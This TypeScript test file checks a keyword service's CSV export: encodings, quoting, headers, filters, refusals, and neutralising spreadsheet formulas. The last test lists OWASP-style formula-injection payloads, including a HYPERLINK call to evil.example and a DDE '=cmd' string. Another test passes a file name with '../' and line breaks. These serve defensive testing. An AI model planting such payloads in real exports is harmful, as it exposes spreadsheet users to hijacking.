import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, describe, test } from 'vitest'
import { startTestApp } from '../../app.ts'
import { assertRefused } from '../refusal.ts'

const sextant = await startTestApp({ afterAll }, { worker: false })
const { admin, call, post, url } = sextant
const newProject = (): Promise<number> => call('add/projects_2/projects', { url: 'bakery-lane.example' })

async function exportBytes(body: object): Promise<{ headers: Headers; bytes: Buffer }> {
  const response = await fetch(`${url}/v2/json/get/keywords_2/keywords/export`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'user-id': String(admin.id),
      authorization: `bearer ${admin.key}`,
    },
    body: JSON.stringify(body),
  })
  assert.equal(response.status, 200, await response.clone().text())
  return { headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) }
}
const exported = async (body: object) =>
  (await exportBytes({ output: 'csvUTF8', ...body })).bytes.toString('utf8')

/** Like deepEqual, without printing thousands of lines on failure. */
function assertSame(lines: string[], expected: string[]): void {
  assert.equal(lines.length, expected.length)
  assert.equal(
    lines.findIndex((line, index) => line !== expected[index]),
    -1,
  )
}

describe('an export', async () => {
  const project_id = await newProject()
  await call('add/keywords_2/keywords/import', {
    project_id,
    keywords:
      'name;tags;target;group_name\nчай №1 ☕;"2,5";a.example;Bread\n"a;b";;;Bread\n"5"" loaf";;;Bread\n=1+1;;;Bread\n"@sum, -x";;;Bread\n',
  })

  test('lists id and name by default, in the order of the list, without a header line', async () => {
    const rows = await call('get/keywords_2/keywords', { project_id })
    const lines = (await exported({ project_id })).split('\r\n')
    assert.equal(lines.length, rows.length + 1)
    assert.equal(lines[0], `${rows[0].id};чай №1 ☕`)
    assert.equal(lines.at(-1), '')
  })

  test('quotes delimiters, quotes and line breaks, and keeps what looks like a formula as it is', async () => {
    await sql`update keywords set target = ${'x\r\ny\nz'} where name = ${'a;b'}`.execute(
      sextant.app.installation.database.executor,
    )
    const text = await exported({ project_id, fields: ['name', 'tags', 'target'] })
    assert.equal(
      text,
      ['чай №1 ☕;2,5;a.example', '"a;b";;"x\r\ny\nz"', '"5"" loaf";;', '=1+1;;', '@sum, -x;;', ''].join(
        '\r\n',
      ),
    )
  })

  test('begins with the names of the fields on request', async () => {
    const fields = ['group_name', 'name']
    for (const flag of [1, '1', true]) {
      const text = await exported({ project_id, fields, show_fields_names: flag, limit: 1 })
      assert.equal(text, 'group_name;name\r\nBread;чай №1 ☕\r\n')
    }
    const nothing = [{ name: 'name', operator: 'EQUALS', values: ['nothing'] }]
    assert.equal(
      await exported({ project_id, fields, show_fields_names: 1, filters: nothing }),
      'group_name;name\r\n',
    )
    assert.equal(await exported({ project_id, fields, filters: nothing }), '')
  })

  test('begins with the labels of the fields on request, below their names with both', async () => {
    const fields = ['group_name', 'position:2026-01-02:1:3']
    const none = [{ name: 'name', operator: 'EQUALS', values: ['nothing'] }]
    const asked = { project_id, fields, filters: none, show_fields_labels: 1 }
    assert.equal(await exported(asked), 'Group;Position 2026-01-02 1 3\r\n')
    assert.equal(
      await exported({ ...asked, show_fields_names: 1 }),
      'group_name;position:2026-01-02:1:3\r\nGroup;Position 2026-01-02 1 3\r\n',
    )
  })

  test('in csv is Windows-1251, where characters it lacks become question marks', async () => {
    const { headers, bytes } = await exportBytes({ project_id, output: 'csv', fields: ['name'], limit: 1 })
    assert.equal(headers.get('content-type'), 'text/csv')
    assert.equal(new TextDecoder('windows-1251').decode(bytes), 'чай №1 ?\r\n')
    assert.equal(bytes.length, 'чай №1 ?\r\n'.length)
  })

  test('in csvUTF8 is UTF-8 and says so', async () => {
    const { headers, bytes } = await exportBytes({
      project_id,
      output: 'csvUTF8',
      fields: ['name'],
      limit: 1,
    })
    assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8')
    assert.equal(bytes.toString('utf8'), 'чай №1 ☕\r\n')
    assert.equal(headers.get('content-disposition'), 'attachment; filename="export.csv"')
  })

  test('takes filters, orders, limit and offset', async () => {
    const text = await exported({
      project_id,
      fields: ['name'],
      filters: [{ name: 'name', operator: 'REGEXP', values: ['^[a5=]'] }],
      orders: ['name'],
      limit: '2',
      offset: 1,
    })
    assert.equal(text, '=1+1\r\n"a;b"\r\n')
  })

  test('of groups holds all their keywords, in the requested order and up to the limit', async () => {
    const other = await newProject()
    await call('add/keywords_2/keywords/import', {
      project_id: other,
      keywords: 'name;group_name\nrye;Bread\nwheat;Bread\ngreen;Tea\nmint;Tea\n',
    })
    const groups = { project_id: other, fields: ['name'], target_type: 'groups' }
    const tea = [{ name: 'name', operator: 'EQUALS', values: ['Tea'] }]
    assert.equal(await exported({ ...groups, filters: tea }), 'green\r\nmint\r\n')
    const orders = [{ name: 'name', direction: 'DESC' }]
    assert.equal(await exported({ ...groups, filters: tea, orders }), 'mint\r\ngreen\r\n')
    assert.equal(await exported({ ...groups, filters: tea, orders, limit: 1 }), 'mint\r\n')
    assert.equal(await exported({ ...groups, orders: ['name'] }), 'green\r\nmint\r\nrye\r\nwheat\r\n')
    const none = [{ name: 'name', operator: 'EQUALS', values: ['Coffee'] }]
    assert.equal(await exported({ ...groups, filters: none }), '')
    const [bread] = await call('get/keywords_2/groups', {
      project_id: other,
      fields: ['id'],
      filters: [{ name: 'name', operator: 'EQUALS', values: ['Bread'] }],
    })
    assert.equal(await exported({ ...groups, id: bread.id }), 'rye\r\nwheat\r\n')
  })

  test('shows the trash only on request', async () => {
    const other = await newProject()
    const { id } = await call('add/keywords_2/keywords', { project_id: other, name: 'rye' })
    await call('del/keywords_2/keywords', { project_id: other, id })
    assert.equal(await exported({ project_id: other, fields: ['name'] }), '')
    assert.equal(await exported({ project_id: other, fields: ['name'], show_trash: 1 }), 'rye\r\n')
  })

  test('is named by file_name, and an invalid name is refused', async () => {
    const { headers } = await exportBytes({ project_id, output: 'csv', file_name: '../Чай\r\nx' })
    assert.equal(headers.get('content-disposition')?.includes('\n'), false)
    assert.match(
      headers.get('content-disposition')!,
      /^attachment; filename="\.\._[_x]+\.csv"; filename\*=UTF-8''/,
    )
    const answer = await post('get/keywords_2/keywords/export', {
      project_id,
      output: 'csv',
      file_name: '..',
    })
    assertRefused(answer, 2003, /^file_name/)
  })

  test('with unknown values is refused by name', async () => {
    const refused: [body: object, code: number, names: RegExp][] = [
      [{ output: undefined }, 2001, /^output/],
      [{ output: 'xls' }, 2003, /^output/],
      [{ project_id: 999_999 }, 54, /^project_id/],
      [{ target_type: 'folders' }, 2003, /^target_type/],
      [{ target_type: 'groups', filters: [{ name: 'target', operator: 'IS_NULL' }] }, 2004, /^filters/],
      [{ fields: ['nmae'] }, 2004, /^fields/],
    ]
    for (const [body, code, names] of refused) {
      const answer = await post('get/keywords_2/keywords/export', { project_id, output: 'csv', ...body })
      assertRefused(answer, code, names)
    }
    const stranger = await sextant.newAccount()
    const foreign = await post('get/keywords_2/keywords/export', { project_id, output: 'csv' }, stranger)
    assertRefused(foreign, 54, /^project_id/)
  })
})

describe('an export of more than ten thousand keywords', async () => {
  const project_id = await newProject()
  const names = Array.from({ length: 20_500 }, (_, index) => `phrase ${(index * 7919) % 20_500}`)
  await call('add/keywords_2/keywords/import', { project_id, keywords: names, group_name: 'Bread' })

  test('holds all of them, in order', async () => {
    const text = await exported({ project_id, fields: ['name'], show_fields_names: 1 })
    assertSame(text.trimEnd().split('\r\n'), ['name', ...names])
  })

  test('also from an offset, and with a limit that is empty, as forms send it', async () => {
    const lines = async (body: object) =>
      (await exported({ project_id, fields: ['name'], ...body })).trimEnd().split('\r\n')
    assertSame(await lines({ offset: 500 }), names.slice(500))
    assertSame(await lines({ limit: '', offset: '' }), names)
    assertSame(await lines({ limit: 10_000 }), names.slice(0, 10_000))
  })

  test('is what an import reads back', async () => {
    const source = await newProject()
    await call('add/keywords_2/keywords/import', {
      project_id: source,
      keywords:
        'name;tags;target;group_folder_path;group_name\n"a;b";"1,2";x.example/y;Tea/Black;Pots\n"5"" loaf";;;;"Bread; rye"\n',
    })
    const fields = ['name', 'tags', 'target', 'group_folder_path', 'group_name']
    const file = await exported({ project_id: source, fields, show_fields_names: 1 })
    const copy = await newProject()
    await call('add/keywords_2/keywords/import', { project_id: copy, keywords: file })
    assert.equal(await exported({ project_id: copy, fields, show_fields_names: 1 }), file)
    assert.equal(parse(file, { delimiter: ';' }).length, 3)
  })
})

/** Texts that a spreadsheet would run, as OWASP lists them, and others that only look like them. */
const FORMULAS = [
  '=hyperlink("http://evil.example/"&a1;"click")',
  '+49 30 1',
  '-rye bread',
  '@sum(1+1)',
  '＝1+1',
]
const HARMLESS = ['-1', '+7', '-0.5', 'rye = bread', "'quoted'", "baker's"]

test('for people, no cell is a formula, numbers stay, and an import gives the same keywords', async () => {
  const other = await newProject()
  const names = [...FORMULAS, 'rye,=cmd|x!a0', ...HARMLESS]
  const lines = names.map((name) => `"${name.replaceAll('"', '""')}"`)
  await call('add/keywords_2/keywords/import', { project_id: other, keywords: ['name', ...lines].join('\n') })
  const request = {
    project_id: other,
    output: 'csvUTF8',
    fields: ['name', 'group_name'],
    show_fields_names: 1,
    orders: [{ name: 'id', direction: 'ASC' }],
  }
  const namesIn = (text: string) => {
    const rows: { name: string }[] = parse(text, { delimiter: ';', columns: true, record_delimiter: '\r\n' })
    return rows.map(({ name }) => name)
  }
  const { text: raw } = await post('get/keywords_2/keywords/export', request)
  assert.deepEqual(namesIn(raw).toSorted(), names.toSorted())
  const { text } = await post('get/keywords_2/keywords/export', { ...request, without_formulas: 1 })
  const safe = [...FORMULAS.map((name) => `'${name}`), "rye,'=cmd|x!a0", ...HARMLESS]
  assert.deepEqual(namesIn(text).toSorted(), safe.toSorted())
  const again = await newProject()
  await call('add/keywords_2/keywords/import', { project_id: again, keywords: text })
  const rows = await call('get/keywords_2/keywords', { project_id: again, fields: ['name'] })
  assert.deepEqual(rows.map(({ name }: { name: string }) => name).toSorted(), names.toSorted())
})
